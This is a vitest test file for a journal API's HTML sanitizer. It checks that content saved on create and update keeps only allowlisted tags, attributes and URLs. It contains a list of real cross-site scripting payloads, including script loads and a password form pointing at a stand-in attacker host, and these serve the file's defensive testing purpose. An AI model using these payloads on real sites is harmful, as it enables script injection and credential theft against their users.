import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isAllowedVideoEmbed } from '../../lib/html';
import { buildTestApp, type TestApp } from '../../test/app';
import { makeJournalTag, makeJournalTypes, type JournalTypes } from '../../test/factories/journals';
import { jpeg, multipart } from '../../test/multipart';

// Stored XSS (issue 6 "Safety"): journal content goes through the allowlist on create and on update,
// and what comes back can never run a script.

let t: TestApp;
let types: JournalTypes;
let tagId: number;
let publisher: { token: string };
let cover: Buffer;

beforeAll(async () => {
  t = await buildTestApp();
  types = await makeJournalTypes(t.database.db);
  tagId = (await makeJournalTag(t.database.db)).id;
  publisher = await t.signedInUser(['publisher']);
  cover = await jpeg(1280, 720);
});
afterAll(() => t.close());

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/media/a.jpg" onerror="alert(1)">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="https://evil.example/track.jpg">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">entity</a>',
  '<a href="java\tscript:alert(1)">tab</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed">link</a>',
  '<svg onload=alert(1)><circle r="5"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/embed/x"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/abc"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abc" srcdoc="<script>alert(1)</script>" onload="alert(1)"></iframe>',
  '<iframe src="https://www.facebook.com/login.php"></iframe>',
  '<p style="background:url(javascript:alert(1))">css</p>',
  '<div style="width: expression(alert(1))">expression</div>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name="password"><button>go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<p onmouseover="alert(1)">hover</p>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<p>unclosed <b onmouseover=alert(1)>bold',
  '<<script>script>alert(1)<</script>/script>',
  '<img/src="x"/onerror=alert(1)>',
  '"><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<video><source onerror="alert(1)"></video>',
  '<a href="//evil.example">protocol relative</a>',
  '<img src="/media/../../etc/passwd">',
];

const ALLOWED: Record<string, string[]> = {
  p: [],
  br: [],
  hr: [],
  strong: [],
  em: [],
  u: [],
  s: [],
  code: [],
  blockquote: [],
  ul: [],
  ol: [],
  li: [],
  h1: [],
  h2: [],
  h3: [],
  h4: [],
  a: ['href', 'rel', 'target'],
  img: ['src', 'alt'],
  div: ['data-youtube-video'],
  iframe: ['src', 'width', 'height', 'allowfullscreen', 'title', 'sandbox', 'referrerpolicy', 'loading'],
};

/** Every element and attribute of the stored HTML is on the allowlist, and every URL is safe. */
function expectHarmless(html: string, payload: string) {
  const where = `${payload} → ${html}`;
  for (const [, name, rest] of html.matchAll(/<\/?([a-zA-Z][\w-]*)([^>]*)>/g)) {
    const tag = name.toLowerCase();
    expect(Object.keys(ALLOWED), where).toContain(tag);
    for (const [, attr, value = ''] of rest.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)) {
      expect(ALLOWED[tag], where).toContain(attr.toLowerCase());
      if (attr === 'href') expect(value, where).toMatch(/^(https?:\/\/|mailto:|\/(?!\/))/i);
      if (tag === 'img' && attr === 'src') expect(value, where).toMatch(/^\/media\/(?!.*\.\.)[\w./-]+$/);
      if (tag === 'iframe' && attr === 'src') expect(isAllowedVideoEmbed(value), where).toBe(true);
    }
  }
  expect(html, where).not.toMatch(/<script|<svg|<style|srcdoc|javascript:|vbscript:|data:|expression\(|\son\w+=/i);
}

async function send(call: 'create' | 'update', content: string, extra: Record<string, string> = {}) {
  const fields = {
    title: `XSS ${Math.random().toString(36).slice(2, 8)}`,
    type: String(types.main.id),
    sub_type: String(types.sub.id),
    tags: [tagId],
    content,
    ...extra,
  };
  const { payload, headers } = await multipart(fields, call === 'create' ? { 'journal-cover': { data: cover } } : {});
  return t.call({ method: 'POST', url: `/api/journal/api-journal-${call}/`, payload, headers, token: publisher.token });
}

async function storedContent(r: { slug: string; type_slug: string; sub_type_slug: string }) {
  const res = await t.call({
    method: 'GET',
    url: '/api/journal/api-journal-detail/',
    query: { slug: r.slug, typeSlug: r.type_slug, subTypeSlug: r.sub_type_slug },
    token: publisher.token,
  });
  return res.json().journal_detail.content as string;
}

describe('journal content is sanitized on every write', () => {
  let address: { slug: string; type_slug: string; sub_type_slug: string };
  beforeAll(async () => {
    const first = (await send('create', '<p>Эхний хувилбар</p>')).json();
    address = { slug: first.slug, type_slug: first.type_slug, sub_type_slug: first.sub_type_slug };
  });

  it(`holds at least 30 payloads (${PAYLOADS.length})`, () => expect(PAYLOADS.length).toBeGreaterThanOrEqual(30));

  // One test per payload and path: a slow machine times out no single test.
  it.each(PAYLOADS)('create stores %s harmless', async (payload) => {
    const created = await send('create', `<p>Аюулгүй текст</p>${payload}`);
    expect(created.statusCode, payload).toBe(200);
    expectHarmless(await storedContent(created.json()), payload);
  });

  it.each(PAYLOADS)('update stores %s harmless', async (payload) => {
    const updated = await send('update', `<p>Аюулгүй текст</p>${payload}`, address);
    expect(updated.statusCode, payload).toBe(200);
    expectHarmless(await storedContent(address), payload);
  });

  it('keeps what the editor makes: headings, lists, quotes, links, our images and video embeds', async () => {
    const content = [
      '<h2>Гарчиг</h2><h3>Дэд гарчиг</h3>',
      '<p><strong>Тод</strong> <em>налуу</em> <u>доогуур</u> <s>дарсан</s></p>',
      '<ul><li>нэг</li></ul><ol><li>хоёр</li></ol><blockquote><p>Ишлэл</p></blockquote>',
      '<p><a href="https://mfi.mn/movie" target="_blank">холбоос</a> <a href="mailto:info@mfi.mn">имэйл</a></p>',
      '<img src="/media/users/1/images/abc.jpg" alt="зураг">',
      '<div data-youtube-video=""><iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="640" height="360"></iframe></div>',
      '<iframe src="https://player.vimeo.com/video/76979871"></iframe>',
      '<iframe src="https://www.facebook.com/plugins/video.php?href=https%3A%2F%2Fwww.facebook.com%2Fmfi%2Fvideos%2F1&show_text=false"></iframe>',
    ].join('');
    const stored = await storedContent((await send('create', content)).json());
    expectHarmless(stored, 'editor content');
    for (const kept of [
      '<h2>Гарчиг</h2>',
      '<h3>Дэд гарчиг</h3>',
      '<strong>Тод</strong>',
      '<li>нэг</li>',
      '<blockquote><p>Ишлэл</p></blockquote>',
      'src="/media/users/1/images/abc.jpg"',
    ]) {
      expect(stored).toContain(kept);
    }
    expect(stored).toContain(
      '<a href="https://mfi.mn/movie" rel="nofollow noopener noreferrer" target="_blank">холбоос</a>',
    );
    expect(stored).toContain('href="mailto:info@mfi.mn"');
    // Players run sandboxed, away from our page.
    expect(stored.match(/<iframe /g)).toHaveLength(3);
    expect(stored).toContain(
      'src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="640" height="360" allowfullscreen="true" sandbox="allow-scripts allow-same-origin allow-presentation allow-popups"',
    );
    expect(stored).toContain('src="https://player.vimeo.com/video/76979871"');
  });

  it('lists a plain-text excerpt, without markup', async () => {
    const created = (await send('create', '<h2>Оршил</h2><p>Нэг &amp; хоёр</p><script>alert(1)</script>')).json();
    await t.call({
      method: 'POST',
      url: '/api/journal/api-journal-publish/',
      payload: { slug: created.slug, type_slug: created.type_slug, sub_type_slug: created.sub_type_slug },
      token: publisher.token,
    });
    const list = await t.call({
      method: 'GET',
      url: '/api/journal/api-journal-list/',
      query: { sub_type: String(types.sub.id), search: created.slug.replace(/-/g, ' ') },
    });
    const item = list.json().journal_list.find((j: { journal_slug: string }) => j.journal_slug === created.slug);
    expect(item.content).toBe('Оршил Нэг & хоёр');
  });
});
